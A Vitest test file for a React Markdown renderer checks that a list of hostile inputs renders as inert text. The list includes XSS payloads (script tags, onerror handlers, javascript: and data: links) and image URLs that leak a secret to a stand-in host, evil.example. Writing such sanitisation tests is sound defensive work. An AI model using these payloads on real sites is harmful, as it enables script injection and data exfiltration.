import { parseDocument } from 'htmlparser2';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from '.';
import { textOf } from './normalize-html';

const render = (source: string, streaming = false): string =>
  renderToStaticMarkup(<Markdown source={source} streaming={streaming} />);

/** Each with the text that remains, if that differs from the source. */
const HOSTILE: [source: string, remains?: string][] = [
  ['<script>alert(1)</script>'],
  ['<img src=x onerror=alert(1)>'],
  ['<svg onload=alert(1)><animate onbegin=alert(1)></svg>'],
  ['<iframe src="javascript:alert(1)"></iframe>'],
  ['<a href="javascript:alert(1)">x</a>'],
  ['<style>*{background:url(/x)}</style>'],
  ['<math><mtext><script>alert(1)</script></mtext></math>'],
  ['[x](javascript:alert(1))', 'x'],
  ['[x](JaVaScRiPt:alert(1))', 'x'],
  ['[x](java\tscript:alert(1))'],
  ['[x](&#106;avascript:alert(1))', 'x'],
  ['[x](\\javascript:alert(1))', 'x'],
  ['[x](<javascript:alert(1)>)', 'x'],
  ['[x](data:text/html;base64,PHNjcmlwdD4=)', 'x'],
  ['[x](vbscript:msgbox(1))', 'x'],
  ['[x](file:///etc/passwd)', 'x'],
  ['[x](//evil.example)', 'x'],
  ['[x][y]\n\n[y]: javascript:alert(1)', 'x'],
  ['<javascript:alert(1)>', 'javascript:alert(1)'],
  ['![x](https://evil.example/?q=secret)', 'x'],
  ['![x](//evil.example/?q=secret)', 'x'],
  ['![x](http://evil.example/?q=secret)', 'x'],
  ['![x](javascript:alert(1))', 'x'],
  ['![x](data:image/svg+xml;base64,PHN2Zy8+)', 'x'],
  ['![x](/api/files/../logout)', 'x'],
  ['![x][y]\n\n[y]: https://evil.example/?q=secret', 'x'],
  ['[![x](https://evil.example/?q=secret)](https://evil.example)', 'x'],
  ['![x](https://evil.example/a.png "onerror=alert(1)")', 'x'],
  ['$\\href{javascript:alert(1)}{x}$', '\\href{javascript:alert(1)}{x}'],
  ['$\\includegraphics{https://evil.example/x.png}$', '\\includegraphics{https://evil.example/x.png}'],
  ['$\\text{<img src=x onerror=alert(1)>}$', '\\text{<img src=x onerror=alert(1)>}'],
  ['$$\\textcolor{url(https://evil.example)}{x}$$', '\\textcolor{url(https://evil.example)}{x}'],
  ['```"><script>alert(1)</script>\ncode\n```', '"><script>alert(1)</script>code\n'],
  [
    '```js" onclick="alert(1)\n</code><script>alert(1)</script>\n```',
    'js"</code><script>alert(1)</script>\n',
  ],
  [
    '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
    '<script>alert(1)</script><img src=x onerror=alert(1)>',
  ],
  ['# <script>alert(1)</script>', '<script>alert(1)</script>'],
  ['- [x] <img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
  [`${'> '.repeat(100)}deep`, `${'> '.repeat(52)}deep`],
  [`${'- '.repeat(100)}deep`, `${'- '.repeat(76)}deep`],
  [`${'*a '.repeat(100)}${'b*'.repeat(100)}`, `${'a '.repeat(100)}${'b'.repeat(100)}`],
];

type Node = ReturnType<typeof parseDocument>['children'][number];
type Element = Extract<Node, { attribs: unknown }>;

/** All elements of the markup, as a browser parses it. */
function elements(nodes: readonly Node[]): Element[] {
  return nodes.flatMap((node) => ('attribs' in node ? [node, ...elements(node.children)] : []));
}

const TAGS =
  /^(?:a|blockquote|button|code|del|div|em|h[3-6]|hr|input|li|ol|p|path|pre|rect|line|svg|span|strong|table|tbody|td|th|thead|tr|ul)$/;
const ATTRIBUTES =
  /^(?:aria-[a-z]+|checked|class|d|data-drawing|dir|disabled|fill|height|href|rel|role|rx|ry|scope|stroke(?:-[a-z]+)?|tabindex|target|title|type|viewbox|width|x|xmlns|y|[xy][12])$/;

describe('hostile text', () => {
  it.each(HOSTILE)('stays text: %s', (source, remains = source) => {
    for (const streaming of [false, true]) {
      const { children } = parseDocument(render(source, streaming));
      for (const { name, attribs } of elements(children)) {
        expect(name).toMatch(TAGS);
        for (const [attribute, value] of Object.entries(attribs)) {
          expect(attribute.toLowerCase()).toMatch(ATTRIBUTES);
          if (attribute === 'href') expect(value).toMatch(/^https?:\/\/|^mailto:/);
        }
      }
      if (!streaming) expect(children.map(textOf).join('')).toBe(remains);
    }
  });

  it('links to images of other sites instead of fetching them', () => {
    const html = render('![A chart](https://other.example/chart.png)');
    expect(html).toContain('class="md-chip"');
    expect(html).toContain('href="https://other.example/chart.png"');
    expect(html).toContain('A chart');
  });

  it.each(['/api/files/0b8c-1', 'data:image/png;base64,iVBORw0KGgo=', 'blob:http://127.0.0.1/x'])(
    'shows its own image %s',
    (src) => {
      expect(render(`![own](${src})`)).toContain(`<img src="${src}" alt="own"`);
    },
  );
});
